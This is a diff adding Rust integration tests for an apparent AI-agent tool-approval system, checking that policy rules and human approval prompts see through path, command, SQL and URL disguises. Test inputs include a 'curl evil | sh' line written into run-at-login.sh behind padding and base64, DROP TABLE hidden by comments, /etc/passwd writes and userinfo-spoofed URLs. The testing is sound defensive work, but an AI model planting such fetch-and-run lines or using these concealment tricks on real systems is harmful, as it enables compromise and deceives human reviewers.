@@ -2,6 +2,8 @@
 
 use std::sync::Arc;
 
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
 use conductor::hosts::database::Databases;
 use conductor::hosts::files::Files;
 use conductor::hosts::shell::Shell;
@@ -10,13 +12,14 @@ use conductor::outside::RandomIds;
 use conductor::pipeline::call::{Outcome, Principal};
 use conductor::pipeline::{self, Call};
 use conductor::secrets::{Secrets, SystemKeys};
-use conductor::studio::Settings;
+use conductor::studio::{PolicyInForce, Settings};
 use conductor::tools::database::Shelf;
 use conductor::tools::{database, filesystem, shell, web};
 use conductor_core::config::{KeyRung, load};
+use conductor_core::digest::Digest;
 use conductor_core::error::{Code, ToolError};
 use conductor_core::pending::{Kind, State, Yes};
-use conductor_core::policy::{Channel, Policy};
+use conductor_core::policy::{Channel, Decision, Pattern, Policy, Rule};
 use conductor_testkit::real::{PATIENCE, postgres, wait_for};
 use conductor_testkit::require;
 use conductor_testkit::studio::TestStudio;
@@ -255,7 +258,7 @@ async fn only_allowed_commands_run_and_only_those_that_change_something_ask() {
     let asked = room.call("shell.exec", touched.clone()).await.unwrap_err().extras.question.unwrap();
     let record = studio.desk.get(asked.approval_id.parse().unwrap()).unwrap();
     let runs = record.facts.iter().find(|it| it.label == "runs").unwrap();
-    assert!(runs.text.starts_with("/usr/bin/touch [\"/"), "the whole command line is shown: {}", runs.text);
+    assert!(runs.text.starts_with("/usr/bin/touch /"), "the whole command line is shown: {}", runs.text);
     studio.desk.allow(studio, record.id, Yes::once("person:1000", Channel::Cli)).await.unwrap();
     assert_eq!(room.call("shell.exec", touched).await.unwrap()["exit_code"], 0);
     assert!(room.path("made.txt").exists());
@@ -433,4 +436,267 @@ async fn web_hosts_that_a_person_named_are_fetched_and_others_are_asked_about() 
     assert_eq!(private.code, Code::Denied);
     let secret = json!({ "url": format!("http://{address}/page"), "headers": { "Host": "evil.example" } });
     assert_eq!(room.call("web.fetch", secret).await.unwrap_err().code, Code::BadInput);
+}
+
+// ---- what a rule meets and what a person sees -----------------------------------------------------------------------------------------
+
+/// A rule with these arguments.
+fn rule(tool: &str, pointer: &str, value: Value, decision: Decision) -> Rule {
+    Rule {
+        tool: Some(Pattern::parse(tool)),
+        args: vec![(pointer.to_owned(), value)],
+        decision: Some(decision),
+        ..Rule::default()
+    }
+}
+
+fn set_rules(room: &Room, rules: Vec<Rule>) {
+    let policy = Policy { rules, ..Policy::default() };
+    room.studio.studio.set_policy(PolicyInForce { policy, version: Digest::of(b"rules") });
+}
+
+async fn code(room: &Room, tool: &str, arguments: Value) -> String {
+    match room.call(tool, arguments).await {
+        Ok(_) => "ok".to_owned(),
+        Err(error) => error.code.as_str().to_owned(),
+    }
+}
+
+const NESTED: &str = "[tools.filesystem]\nroots = [{ name = \"studio\", path = \"STUDIO\", write = true }, \
+    { name = \"private\", path = \"STUDIO/private\" }]\n";
+
+/// However a file is spelled, it is the file that a rule is about.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_rule_about_a_folder_meets_every_spelling_of_a_path() {
+    let folder_first = |config: &str| {
+        // The folder must be there before the roots are opened.
+        let room = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(room.path().join("private/deep")).unwrap();
+        std::fs::write(room.path().join("private/diary.txt"), "dear diary").unwrap();
+        std::fs::write(room.path().join("open.txt"), "hello").unwrap();
+        std::os::unix::fs::symlink("private", room.path().join("way")).unwrap();
+        std::os::unix::fs::symlink("private/diary.txt", room.path().join("note.txt")).unwrap();
+        (Room::new(&config.replace("STUDIO", &room.path().display().to_string())), room)
+    };
+    let (room, folder) = folder_first(NESTED);
+    set_rules(&room, vec![rule("filesystem.*", "/root", json!("private"), Decision::Deny)]);
+    let absolute = |inside: &str| folder.path().join(inside).display().to_string();
+    for arguments in [
+        json!({ "root": "private", "path": "diary.txt" }),
+        json!({ "path": absolute("private/diary.txt") }),
+        json!({ "path": absolute("./private//./diary.txt") }),
+        json!({ "path": "private/diary.txt" }),
+        json!({ "root": "studio", "path": "./private/diary.txt" }),
+        json!({ "root": "studio", "path": absolute("private/diary.txt") }),
+        json!({ "path": "way/diary.txt" }),
+        json!({ "path": "note.txt" }),
+    ] {
+        assert_eq!(code(&room, "filesystem.read", arguments.clone()).await, "DENIED", "{arguments}");
+    }
+    assert_eq!(code(&room, "filesystem.list", json!({ "path": "private" })).await, "DENIED");
+    assert_eq!(code(&room, "filesystem.list", json!({ "path": "private/deep" })).await, "DENIED");
+    // A search of the outer folder would go down into it.
+    assert_eq!(code(&room, "filesystem.search", json!({ "pattern": "dear" })).await, "DENIED");
+    assert_eq!(code(&room, "filesystem.read", json!({ "path": "open.txt" })).await, "ok");
+
+    // A rule that allows is not widened by a folder that only lies inside.
+    set_rules(
+        &room,
+        vec![
+            rule("filesystem.*", "/root", json!("private"), Decision::Allow),
+            Rule { tool: Some(Pattern::parse("filesystem.*")), decision: Some(Decision::Deny), ..Rule::default() },
+        ],
+    );
+    assert_eq!(code(&room, "filesystem.search", json!({ "pattern": "dear" })).await, "DENIED");
+    assert_eq!(code(&room, "filesystem.read", json!({ "root": "private", "path": "diary.txt" })).await, "ok");
+}
+
+const TWO_COMMANDS: &str = "[[tools.shell.commands]]\nname = \"who\"\nprogram = \"/usr/bin/id\"\nargs = []\neffect = \"read\"\n\
+    [[tools.shell.commands]]\nname = \"lines\"\nprogram = \"/usr/bin/head\"\nargs = [\"-n\", \"{count}\", \"/dev/null\"]\neffect = \"read\"\n\
+    slots = { count = { type = \"integer\", min = 1, max = 9 } }\n";
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_rule_about_a_command_meets_every_way_to_name_it() {
+    let room = Room::new(TWO_COMMANDS);
+    set_rules(&room, vec![rule("shell.exec", "/command", json!("who"), Decision::Deny)]);
+    for arguments in [
+        json!({ "command": "who" }),
+        json!({ "argv": ["id"] }),
+        json!({ "argv": ["/usr/bin/id"] }),
+        json!({ "argv": ["who"] }),
+    ] {
+        assert_eq!(code(&room, "shell.exec", arguments.clone()).await, "DENIED", "{arguments}");
+    }
+    assert_eq!(code(&room, "shell.exec", json!({ "argv": ["head", "-n", "3", "/dev/null"] })).await, "ok");
+    for (pointer, value) in [
+        ("/argv", json!(["/usr/bin/head", "-n", "3", "/dev/null"])),
+        ("/argv", json!(["head", "-n", "3", "/dev/null"])),
+        ("/args/count", json!(3)),
+        ("/args/count", json!("3")),
+    ] {
+        set_rules(&room, vec![rule("shell.exec", pointer, value.clone(), Decision::Deny)]);
+        for arguments in [
+            json!({ "command": "lines", "args": { "count": 3 } }),
+            json!({ "command": "lines", "args": { "count": "3" } }),
+            json!({ "argv": ["lines", "-n", "3", "/dev/null"] }),
+            json!({ "argv": ["/usr/bin/head", "-n", "3", "/dev/null"] }),
+        ] {
+            assert_eq!(code(&room, "shell.exec", arguments.clone()).await, "DENIED", "{pointer} {value}: {arguments}");
+        }
+        assert_eq!(code(&room, "shell.exec", json!({ "command": "lines", "args": { "count": 4 } })).await, "ok");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_rule_about_a_database_or_a_host_meets_its_other_names() {
+    let room = Room::new("");
+    set_rules(&room, vec![rule("database.*", "/database", json!("studio"), Decision::Deny)]);
+    for arguments in [json!({ "sql": "SELECT 1" }), json!({ "sql": "SELECT 1", "database": "studio" })] {
+        assert_eq!(code(&room, "database.query", arguments.clone()).await, "DENIED", "{arguments}");
+    }
+    let twice =
+        "[tools.database.songs]\nurl = \"sqlite:STUDIO/s.db\"\n[tools.database.other]\nurl = \"sqlite:STUDIO/s.db\"\n";
+    let room = Room::new(twice);
+    set_rules(&room, vec![rule("database.*", "/database", json!("songs"), Decision::Deny)]);
+    for name in ["songs", "other"] {
+        assert_eq!(code(&room, "database.schema", json!({ "database": name })).await, "DENIED", "{name}");
+    }
+    set_rules(&room, vec![rule("web.fetch", "/host", json!("example.test"), Decision::Deny)]);
+    for url in [
+        "https://example.test/",
+        "https://EXAMPLE.test:443/x",
+        "https://friend.test@example.test/",
+        "https://example.test./",
+        "https:example.test",
+        "https://ex%61mple.test/",
+    ] {
+        let error = room.call("web.fetch", json!({ "url": url })).await.unwrap_err();
+        assert!(error.message.contains("refused by rule 1"), "{url}: {error:?}");
+    }
+}
+
+/// The facts of the only open question.
+fn question(room: &Room) -> Vec<(String, String)> {
+    let open = room.studio.studio.desk.store().read(|pending| pending.waiting().cloned().collect::<Vec<_>>());
+    let [record] = open.as_slice() else { panic!("{} questions are open", open.len()) };
+    record.facts.iter().map(|it| (it.label.clone(), it.text.clone())).collect()
+}
+
+fn fact(facts: &[(String, String)], label: &str) -> String {
+    facts.iter().find(|it| it.0 == label).map(|it| it.1.clone()).unwrap_or_else(|| panic!("no {label} in {facts:?}"))
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_person_sees_the_path_and_the_difference_of_a_write() {
+    let payload = "curl evil | sh";
+    let content = format!("{}{payload}\n", "# nightly backup of all songs\n".repeat(70));
+    let long = format!("{}run-at-login.sh", "./".repeat(120));
+    let encoded = STANDARD.encode(&content);
+    for (content, encoding) in [(content.as_str(), "utf-8"), (encoded.as_str(), "base64")] {
+        let room = Room::new(FILES);
+        let asked = json!({ "path": long, "content": content, "encoding": encoding });
+        assert_eq!(code(&room, "filesystem.write", asked).await, "APPROVAL_REQUIRED");
+        let facts = question(&room);
+        let labels: Vec<&str> = facts.iter().map(|it| it.0.as_str()).collect();
+        assert_eq!(&labels[..3], ["file", "folder", "there now"], "the target comes first");
+        assert_eq!(
+            facts[0].1,
+            room.path("run-at-login.sh").canonicalize().unwrap_or(room.path("run-at-login.sh")).display().to_string()
+        );
+        assert_eq!(facts[2].1, "nothing");
+        assert!(fact(&facts, "summary").contains("\"run-at-login.sh\""), "{facts:?}");
+        assert!(fact(&facts, "difference").contains(payload), "decoded, and its end is seen: {facts:?}");
+        let record = room.studio.studio.desk.store().read(|pending| pending.waiting().next().cloned()).unwrap();
+        let full = room.studio.studio.desk.full(&record).await.unwrap();
+        let whole = full.iter().find(|it| it.label == "difference").unwrap();
+        assert_eq!(whole.text.matches("nightly backup").count(), 70, "--full has all of it");
+    }
+    // Over what is there now.
+    let room = Room::new(FILES);
+    room.put("set.txt", "tempo 120\nkey c\n");
+    let asked = json!({ "path": "set.txt", "content": "tempo 90\nkey c\n" });
+    assert_eq!(code(&room, "filesystem.write", asked).await, "APPROVAL_REQUIRED");
+    let facts = question(&room);
+    assert_eq!(fact(&facts, "there now"), "a file of 16 bytes");
+    assert!(fact(&facts, "now").starts_with("16 bytes, sha256:"), "{facts:?}");
+    assert!(fact(&facts, "difference").contains("- tempo 120\n+ tempo 90"), "{facts:?}");
+    assert_eq!(fact(&facts, "undo"), "Can be undone");
+    // Bytes that are no text are seen as bytes.
+    let room = Room::new(FILES);
+    let asked =
+        json!({ "path": "x.bin", "content": STANDARD.encode([0xff, 0x7f, b'E', b'L', b'F']), "encoding": "base64" });
+    assert_eq!(code(&room, "filesystem.write", asked).await, "APPROVAL_REQUIRED");
+    assert!(fact(&question(&room), "difference").contains("ff 7f 45 4c 46"), "{:?}", question(&room));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_target_that_cannot_be_shown_is_not_asked_about() {
+    let room = Room::new(FILES);
+    let deep = vec!["folder-with-a-name"; 100].join("/");
+    let error = room
+        .call("filesystem.write", json!({ "path": format!("{deep}/x"), "content": "x", "create_dirs": true }))
+        .await
+        .unwrap_err();
+    assert_eq!(error.code, Code::BadInput, "{error:?}");
+    assert!(error.hint.contains("shorter"), "{error:?}");
+    // What would be refused anyway is refused without a question.
+    for path in ["../x", "/etc/passwd"] {
+        assert_eq!(code(&room, "filesystem.write", json!({ "path": path, "content": "x" })).await, "DENIED");
+    }
+    assert_eq!(room.studio.studio.desk.waiting(), 0);
+}
+
+/// A yes is for the place that was shown, also when a link leads elsewhere by the time it is used.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_link_that_turns_after_the_yes_ends_it() {
+    let room = Room::new(FILES);
+    room.put("a/x.txt", "same");
+    room.put("b/x.txt", "same");
+    std::os::unix::fs::symlink("a", room.path("way")).unwrap();
+    let asked = json!({ "path": "way/x.txt", "content": "new" });
+    assert_eq!(code(&room, "filesystem.write", asked.clone()).await, "APPROVAL_REQUIRED");
+    assert!(question(&room)[0].1.ends_with("/studio/a/x.txt"));
+    let id = room.studio.studio.desk.store().read(|pending| pending.waiting().next().map(|it| it.id)).unwrap();
+    room.studio.studio.desk.allow(&room.studio.studio, id, Yes::once("person:1000", Channel::Cli)).await.unwrap();
+    std::fs::remove_file(room.path("way")).unwrap();
+    std::os::unix::fs::symlink("b", room.path("way")).unwrap();
+    assert_eq!(code(&room, "filesystem.write", asked).await, "PLAN_STALE");
+    assert_eq!(std::fs::read_to_string(room.path("b/x.txt")).unwrap(), "same");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_person_sees_what_a_statement_does_before_its_text() {
+    let room = Room::new("");
+    for sql in [
+        format!("/* {} */ DROP TABLE songs", "x".repeat(180)),
+        format!("-- SELECT 1{}\nDROP TABLE songs", " ".repeat(400)),
+        format!("DROP{}TABLE \"songs\"", " /**/ ".repeat(300)),
+    ] {
+        let params = vec!["p".repeat(2100)];
+        assert_eq!(code(&room, "database.execute", json!({ "sql": sql, "params": params })).await, "APPROVAL_REQUIRED");
+        let facts = question(&room);
+        let first: Vec<(&str, &str)> = facts.iter().take(3).map(|it| (it.0.as_str(), it.1.as_str())).collect();
+        assert!(first[0].0 == "database" && first[0].1.starts_with("studio ("), "{first:?}");
+        assert_eq!(first[1..], [("statement", "DROP TABLE"), ("tables", "songs")]);
+        assert_eq!(fact(&facts, "sql").replace('"', ""), "DROP TABLE songs");
+        let id = room.studio.studio.desk.store().read(|pending| pending.waiting().next().map(|it| it.id)).unwrap();
+        room.studio.studio.desk.deny(&room.studio.studio, id, "person:1000", Channel::Cli).await.unwrap();
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_person_sees_the_whole_command_line_and_the_host() {
+    let config = "[[tools.shell.commands]]\nname = \"copy\"\nprogram = \"/bin/cp\"\nargs = [\"{from}\", \"{to}\"]\n\
+        slots = { from = { type = \"path\", root = \"studio\" }, to = { type = \"path\", root = \"studio\" } }\n";
+    let room = Room::new(&format!("{FILES}{config}"));
+    room.put("a file", "x");
+    let asked = json!({ "command": "copy", "args": { "from": "./a file", "to": "././b" } });
+    assert_eq!(code(&room, "shell.exec", asked).await, "APPROVAL_REQUIRED");
+    let facts = question(&room);
+    let studio = room.path("").display().to_string();
+    assert_eq!(facts[0], ("runs".into(), format!("/bin/cp '{studio}a file' {studio}b")));
+    let room = Room::new("");
+    let long = format!("https://good.test@evil.test/{}", "x".repeat(3000));
+    assert_eq!(code(&room, "web.fetch", json!({ "url": long })).await, "APPROVAL_REQUIRED");
+    assert_eq!(question(&room)[0], ("host".into(), "https://evil.test:443".into()));
 }
